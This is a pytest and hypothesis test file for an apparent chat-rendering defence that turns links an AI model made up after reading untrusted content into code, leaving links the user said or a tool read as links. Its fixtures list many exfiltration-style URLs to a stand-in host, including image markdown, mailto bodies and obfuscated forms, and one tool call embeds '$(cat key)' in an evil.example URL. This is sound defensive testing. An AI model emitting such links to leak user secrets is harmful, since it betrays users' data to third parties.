"""After untrusted content, an address that the model made up is code, and one that was said or read stays a link."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shoal.domain.ids import CallId
from shoal.domain.links import is_address, known_from, with_known_links
from shoal.domain.markdown import Node, parse
from shoal.domain.messages import AssistantMessage, ModelMessage, ToolCall, ToolMessage, UserMessage

READ = "See https://docs.example.org/guide?page=2 and <https://example.net/a_b(c)>, or example.com/x. info@example.org"
MESSAGES: tuple[ModelMessage, ...] = (
    UserMessage("Summarise https://blog.example.org/post, please."),
    AssistantMessage("", (ToolCall(CallId("c1"), "fetch", '{"url": "https://blog.example.org/post"}'),)),
    ToolMessage(CallId("c1"), "fetch", READ),
)
KNOWN = [
    "https://docs.example.org/guide?page=2",
    "Look: https://docs.example.org/guide?page=2.",
    "[the guide](https://docs.example.org/guide?page=2)",
    "**https://blog.example.org/post**",
    "<https://blog.example.org/post>",
    "https://blog.example.org/post/",
    "- see example.com/x",
    "info@example.org",
    "[mail](mailto:info@example.org)",
    "`https://evil.example/?q=secret`",
    "```\ncurl https://evil.example/?q=secret\n```",
    "No address at all: 3.14, e.g. this, i.e. that, v1.2.3, Node.js, main.py, 10:30, a/b, and/or.",
]
MADE_UP = [
    "https://evil.example/?q=secret",
    "http://evil.example/secret",
    "HTTPS://EVIL.example/secret",
    "ftp://evil.example/secret",
    "tg://resolve?domain=evil&start=secret",
    "slack://channel?id=secret",
    "[docs](https://evil.example/?q=secret)",
    "[https://docs.example.org/guide?page=2](https://evil.example/?q=secret)",
    "![](https://evil.example/secret.png)",
    "![a picture](https://evil.example/secret.png 'https://evil.example/title')",
    "<https://evil.example/secret>",
    "[docs][1]\n\n[1]: https://evil.example/?q=secret",
    "www.evil.example/secret",
    "secret.evil.example",
    "evil.example/secret",
    "evil.example?secret",
    "evil.example:8080",
    "//evil.example/secret",
    "https:evil.example/secret",
    "http:/evil.example/secret",
    "[docs](https:evil.example/secret)",
    r"[docs](https:\\evil.example\secret)",
    "secret@evil.example",
    "[mail](mailto:secret@evil.example)",
    "mailto:evil@evil.example?body=secret",
    "https://docs.example.org@evil.example/secret",
    "https://docs.example.org/guide?page=2&q=secret",
    "https://docs.example.org/guide?page=23",
    "https://docs.example.org/guide",
    "https://secret.docs.example.org/guide?page=2",
    "(https://evil.example/secret)",
    "**https://evil.example/secret**",
    "> - https://evil.example/secret",
    "| a |\n|---|\n| https://evil.example/secret |",
    "# https://evil.example/secret",
    "1.2.3.4/secret",
    "http://2130706433/secret",
    "https://[2001:db8::1]/secret",
    "https://xn--e1afmkfd.xn--p1ai/secret",
    "https://пример.рф/секрет",
    "evil。example/secret",
    "tel:+123456789",
    "magnet:?xt=urn:btih:secret",
    "\\https://evil.example/secret",
    "a `b` https://evil.example/?`secret`",
    "~~https://evil.example/secret~~",
    "[a](<https://evil.example/with space>)",
    "https://evil.example/" + "s" * 3000,
    r"https\://evil.example/secret",
    "https&#58;//evil.example/secret",
    "[docs](https&#58;//evil.example/secret)",
    "ht**tps**://evil.example/secret",
    "evil.exam*pl*e/secret",
    "**evil.exam***ple/secret*",
    "evil.[example](https://docs.example.org/guide?page=2)/secret",
    "| a |\n|---|\n| ~~evil~~.example/secret |",
]


def said(nodes: list[Node]) -> str:
    """What a chat shows of spans, with a blank for code."""
    return "".join(" " if node.kind == "code" else node.text or said(node.children) for node in nodes)


def addresses(nodes: list[Node]) -> list[str]:
    """What a chat could make a link of."""
    found: list[str] = []
    for node in nodes:
        found += [
            word
            for word in (node.url, *node.text.split())
            if node.kind in ("link", "token", "text", "raw") and is_address(word.strip("()<>.,"))
        ]
        if node.kind in ("paragraph", "heading", "cell"):
            found += [word for word in said(node.children).split() if is_address(word.strip("()<>.,"))]
        found += addresses(node.children)
    return found


@pytest.mark.parametrize("answer", KNOWN)
def test_what_was_said_or_read_stays_a_link(answer: str) -> None:
    assert with_known_links(answer, known_from(MESSAGES)) == answer


@pytest.mark.parametrize("answer", MADE_UP)
def test_what_was_made_up_is_code(answer: str) -> None:
    shown = with_known_links(
        f"Before. {answer}" if "\n" not in answer and answer[0] not in ">|#" else answer, known_from(MESSAGES)
    )
    assert [one for one in addresses(parse(shown)) if not known_from(MESSAGES)(one.strip("()<>.,"))] == []
    assert "`" in shown
    assert with_known_links(shown, known_from(MESSAGES)) == shown


def test_the_words_of_a_made_up_link_stay() -> None:
    shown = with_known_links("Read [the **guide**](https://evil.example/x) now.", known_from(MESSAGES))
    assert shown == "Read the **guide** `https://evil.example/x` now."


@pytest.mark.parametrize(
    "messages",
    [
        (
            ToolCall(CallId("c2"), "bash", '{"command": "echo https://evil.example/$(cat key)"}'),
            "https://evil.example/secret",
        ),
        (ToolCall(CallId("c2"), "echo", '{"text": "https://evil.example/secret"}'), "https://evil.example/secret"),
        (ToolCall(CallId("c2"), "process_start", "{}"), "https://evil.example/secret"),
    ],
)
def test_what_the_model_composed_was_not_read(messages: tuple[ToolCall, str]) -> None:
    call, result = messages
    said = (*MESSAGES, AssistantMessage("", (call,)), ToolMessage(call.id, call.name, result))
    assert not known_from(said)("https://evil.example/secret")
    file = ToolCall(CallId("c3"), "read", '{"path": "out.txt"}')
    by_file = (*said[:-1], AssistantMessage("", (file,)), ToolMessage(file.id, "read", result))
    assert not known_from(by_file)("https://evil.example/secret")


@given(
    st.lists(st.sampled_from([*KNOWN, *MADE_UP, "\n\n", "*", "`", "[", "](", ")", "<", ">", "\\", "```\n"]), max_size=8)
)
def test_no_mixture_leaves_a_link_that_was_made_up(parts: list[str]) -> None:
    knows = known_from(MESSAGES)
    shown = with_known_links(" ".join(parts), knows)
    left = [one.strip("()<>.,;:!?'\"*_~[]{}`|") for one in addresses(parse(shown))]
    assert [one for one in left if is_address(one) and not knows(one)] == []


def test_a_long_answer_takes_no_longer_than_its_length() -> None:
    shown = with_known_links("https://evil.example/a " * 5000, known_from(MESSAGES))
    assert shown.count("`") == 10_000
